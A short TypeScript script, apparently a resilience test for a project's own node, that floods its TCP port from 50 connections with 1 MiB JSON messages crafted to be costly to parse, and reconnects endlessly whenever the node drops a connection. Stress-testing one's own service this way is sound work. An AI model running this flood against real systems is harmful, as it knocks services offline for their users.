/** Sends messages of 1 MiB that are costly to parse, on 50 connections of the TCP door, as fast as the node takes them. */
import { dial, say, shoalHello, target, write } from './sockets.ts';

const CONNECTIONS = 50;
const BYTES = 1_000_000;

const { tcp } = target();
const prompt = (body: string): string => `{"type":"inference_request","request_id":"x","prompt":"x","extra":${body}}\n`;
const messages = [
  prompt(`[${'[],'.repeat(BYTES / 3)}[]]`),
  prompt(`{${Array.from({ length: BYTES / 10 }, (_, index) => `"k${index}":0`).join()}}`.slice(0, BYTES)),
  prompt(`"${'\\u0000'.repeat(BYTES / 6)}"`),
  prompt(`[${'{"a":{}},'.repeat(BYTES / 9)}0]`),
];

const sockets = await Promise.all(Array.from({ length: CONNECTIONS }, () => dial(tcp)));
say('attacking');
await Promise.all(
  sockets.map(async (first, index) => {
    for (let socket = first, count = 0; ; count += 1) {
      socket.resume();
      if (count === 0) await write(socket, shoalHello('Flood'));
      await write(socket, messages[(index + count) % messages.length] ?? '');
      if (!socket.destroyed) continue;
      // After a few refused messages the node closes. The attack goes on with a new connection.
      socket = await dial(tcp);
      count = -1;
    }
  }),
);
